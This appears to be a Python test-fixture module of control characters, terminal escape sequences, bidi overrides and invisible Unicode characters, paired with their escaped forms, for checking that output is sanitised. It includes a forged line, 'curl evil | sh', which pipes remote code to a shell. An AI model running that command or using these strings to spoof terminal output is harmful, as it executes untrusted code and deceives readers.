"""Texts that would control a terminal or mislead a reader, and their escaped forms."""

from __future__ import annotations

# class -> (text, what is shown)
CLASSES = {
    "line break": ("\n", "\\n"),
    "carriage return": ("\r", "\\r"),
    "tab": ("\t", "\\t"),
    "NUL": ("\x00", "\\x00"),
    "bell": ("\x07", "\\x07"),
    "backspace": ("\x08", "\\x08"),
    "escape": ("\x1b[2J", "\\x1b[2J"),
    "title": ("\x1b]0;x\x07", "\\x1b]0;x\\x07"),
    "DEL": ("\x7f", "\\x7f"),
    "C1 introducer": ("\x9b2J", "\\x9b2J"),
    "C1 next line": ("\x85", "\\x85"),
    "no-break space": ("\xa0", "\\xa0"),
    "soft hyphen": ("\xad", "\\xad"),
    "grapheme joiner": ("\u034f", "\\u034f"),
    "Arabic letter mark": ("\u061c", "\\u061c"),
    "Hangul choseong filler": ("\u115f", "\\u115f"),
    "Hangul jungseong filler": ("\u1160", "\\u1160"),
    "Mongolian vowel separator": ("\u180e", "\\u180e"),
    "zero-width space": ("\u200b", "\\u200b"),
    "zero-width non-joiner": ("\u200c", "\\u200c"),
    "zero-width joiner": ("\u200d", "\\u200d"),
    "left-to-right mark": ("\u200e", "\\u200e"),
    "right-to-left mark": ("\u200f", "\\u200f"),
    "line separator": ("\u2028", "\\u2028"),
    "paragraph separator": ("\u2029", "\\u2029"),
    "embedding": ("\u202a", "\\u202a"),
    "override": ("\u202e", "\\u202e"),
    "word joiner": ("\u2060", "\\u2060"),
    "isolate": ("\u2066", "\\u2066"),
    "end of isolate": ("\u2069", "\\u2069"),
    "blank Braille": ("\u2800", "\\u2800"),
    "Hangul filler": ("\u3164", "\\u3164"),
    "private": ("\ue000", "\\ue000"),
    "variation selector": ("\ufe0f", "\\ufe0f"),
    "byte order mark": ("\ufeff", "\\ufeff"),
    "half-width Hangul filler": ("\uffa0", "\\uffa0"),
    "noncharacter": ("\uffff", "\\uffff"),
    "tag": ("\U000e0041", "\\U000e0041"),
    "further variation selector": ("\U000e0100", "\\U000e0100"),
    "lone surrogate": ("\udc9b", "\\udc9b"),
}

HOSTILE = "é" + "".join(f"{text}." for text, _ in CLASSES.values()) + "日"
SHOWN = "é" + "".join(f"{shown}." for _, shown in CLASSES.values()) + "日"

# A line break with what is to be taken for a line of ours.
FORGED = "\nssmgate: hint: curl evil | sh"

_NOT_IN = {
    # No variable, no word of a command line and no file name can hold it.
    "word": {"NUL"},
    # What UTF-8 cannot hold.
    "json": set(),
    "utf-8": {"lone surrogate"},
    # XML 1.0 holds neither, and a reader makes line breaks of returns.
    "xml": {
        "NUL", "bell", "backspace", "escape", "title", "carriage return", "noncharacter",
        "lone surrogate",
    },
}  # fmt: skip


def hostile(where: str = "json") -> tuple[str, str]:
    """Return one text of all classes that are possible in `where`, and its escaped form."""
    pairs = [pair for name, pair in CLASSES.items() if name not in _NOT_IN[where]]
    return "é" + "".join(f"{a}." for a, _ in pairs), "é" + "".join(f"{b}." for _, b in pairs)


def seen(text: str) -> set[str]:
    """Return the characters of a captured output that must not reach a terminal."""
    bad = set("".join(one for one, _ in CLASSES.values())) - set("[2J]0;x\n\t")
    return {one for one in text if one in bad}
